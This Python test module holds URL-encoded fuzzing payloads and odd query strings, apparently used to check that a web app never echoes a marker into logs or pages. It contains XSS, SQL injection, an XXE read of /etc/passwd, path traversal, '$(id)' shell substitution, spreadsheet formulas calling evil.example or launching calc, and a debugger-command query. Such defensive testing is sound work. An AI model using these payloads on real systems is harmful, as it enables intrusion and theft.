"""What is put where a reader would put a name, percent-encoded as it stands in an address.

Every payload that may be of any length holds the marker, which must never be in a log.
"""

from urllib.parse import quote, unquote_to_bytes

MARK = "zq-marker"
LONG = 64 * 1024

TEXTS = {
    "nul": f"{MARK}\0",
    "line break": f"{MARK}\r\nSet-Cookie: zq=1\r\n\r\n<b>",
    "line feed": f"{MARK}\n{{}}",
    "escape": f"\x1b[31m{MARK}",
    "c1 control": f"{MARK}\x85",
    "delete": f"{MARK}\x7f",
    "script": f"<script>alert('{MARK}')</script>",
    "attribute": f"\" onfocus=alert(1) autofocus x=\"{MARK}",
    "closing": f"</title></textarea><img src=x onerror={MARK}>",
    "cdata": f"]]><x>{MARK}</x><![CDATA[",
    "entity": f"&lt;{MARK}&#60;&amp;<",
    "template": "{{731*739}}{%print(731*739)%}" + MARK,
    "template of others": "${731*739}<%=731*739%>#{731*739}" + MARK,
    "format": f"{{0.__class__}}%s%n%(x)s{MARK}",
    "sql": f"' OR '1'='1' UNION SELECT null,version()--{MARK}",
    "sql wildcard": f"%_\\%{MARK}",
    "formula": f"=HYPERLINK(\"http://evil.example/{MARK}\")",
    "formula at": f"@SUM(1+1)*cmd|' /C calc'!A0{MARK}",
    "full-width formula": f"＝1＋1{MARK}",
    "shell": f"$(id);`id`|id&&{MARK}",
    "xml": f"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;{MARK}</x>",
    "markdown": f"[{MARK}](javascript:alert(1)) | `` # <b>{MARK}</b>",
    "up": f"../../../../etc/passwd{MARK}",
    "back": f"..\\..\\..\\windows\\win.ini{MARK}",
    "up with dots": f"....//....//{MARK}",
    "double slash": f"//evil.example/{MARK}",
    "backslash host": f"/\\evil.example/{MARK}",
    "whole address": f"https://evil.example/{MARK}?x=1",
    "script address": f"javascript:alert('{MARK}')",
    "user and host": f"http://127.0.0.1@evil.example/{MARK}",
    "brackets": f"http://[::1/{MARK}]",
    "right to left": f"\u202e\u2066{MARK}\u2069",
    "zero width": f"fla\u200bsk\ufeff{MARK}",
    "look-alikes": f"ﬂask ꜰʟᴀꜱᴋ ｆｌａｓｋ {MARK}",
    "combining": "a" + "\u0301" * 200 + MARK,
    "astral": f"\U0001f40d\U000e0001{MARK}\U0010ffff",
    "not characters": f"\ufffe\uffff{MARK}",
    "arabic digits": "٢٠٢٦.١١.٥",
    "dotless": "İıſK",
    "huge float": "1e400",
    "not a number": "nan",
    "signalling": "sNaN",
    "infinity": "-inf",
    "tiny": "1E-999999999",
    "minus one": "-1",
    "huge integer": "99999999999999999999",
    "largest row": "9223372036854775807",
    "underscored": "1_0",
    "hexadecimal": "0x10",
    "5,000 digits": "1" * 5_000,
    "empty": "",
    "space": " ",
    "dot": ".",
    "two dots": "..",
    "hyphens": "-vs--vs-",
    "true": "true",
    "nested": "[" * 900 + MARK,
    "json": f"{{\"$gt\":\"\",\"__proto__\":\"{MARK}\"}}",
    "64 kB": "a" * LONG,
    "1,900 of one": "a" * 1_900,
}  # fmt: skip

ENCODED = {
    "not utf-8": f"%ff%fe{MARK}",
    "overlong slash": f"%c0%af%e0%80%af{MARK}",
    "overlong nul": f"%c0%80{MARK}",
    "surrogate": f"%ed%a0%80{MARK}",
    "pair of surrogates": f"%ed%a0%bd%ed%b0%8d{MARK}",
    "beyond unicode": f"%f4%90%80%80{MARK}",
    "cut short": f"{MARK}%e2%98",
    "double-encoded script": f"%253Cscript%253E{MARK}%253C%252Fscript%253E",
    "double-encoded up": f"%252e%252e%252f{MARK}",
    "double-encoded nul": f"%2500{MARK}",
    "threefold": f"%25253Cb%25253E{MARK}",
    "no escape": f"%zz%1{MARK}%",
    "old escape": f"%u003Cscript%u003E{MARK}",
    "plus": "+++",
}

PAYLOADS = {name: quote(text, safe="") for name, text in TEXTS.items()} | ENCODED

TELLTALES = (MARK, "evil.example", "731*739", "etc/passwd", "__class__", "UNION", "product=")
"""What would show in a log that holds any part of what a reader sent."""

QUERIES = {
    "repeated": "product=api&product=site&edition=1&edition=2&r=a&r=b&theme=x&theme=y",
    "repeated 900 times": "&".join(["must=async"] * 180),
    "empty names": f"=&=&=={MARK}",
    "names only": f"{MARK}&product&edition&frameworks&r&theme",
    "semicolons": f"product=api;team=one;{MARK}",
    "question marks": f"??product=api?{MARK}",
    "brackets": f"product[]=api&product[0]=api&product[{MARK}]=x&r[$ne]=1",
    "names of objects": f"__proto__=1&constructor=2&__class__=3&self=4&{MARK}=5",
    "900 names": "&".join(f"{number:x}={MARK[:2]}" for number in range(300)),
    "20,000 names": "&".join(f"{number:x}=" for number in range(20_000)),
    "unknown": f"utm_source={MARK}&fbclid=1&debug=1&_method=DELETE",
    "one ampersand": "&",
    "ampersands": "&" * 500,
    "other case": f"PRODUCT=api&Edition=2026.11.5&FRAMEWORKS=flask&{MARK}=1",
    "fragment": f"product=api%23{MARK}",
    "nul name": f"%00=1&{MARK}=%00",
    "debugger": f"__debugger__=yes&cmd=resource&f=debugger.js&x={MARK}",
    "override": f"_method=PUT&format=xml&callback={MARK}&lang=ar",
}
"""Whole queries whose shape is odd, rather than a value in them."""

MARKUP = frozenset(b"<>\"'&")


def unwanted(encoded: str) -> tuple[bytes, ...]:
    """Return what must not be in a page of ours: the payload as markup, decoded once or twice."""
    once = unquote_to_bytes(encoded)
    shapes = {once, unquote_to_bytes(once), unquote_to_bytes(unquote_to_bytes(once))}
    return tuple(sorted(shape for shape in shapes if MARKUP & set(shape) and len(shape) > 4))
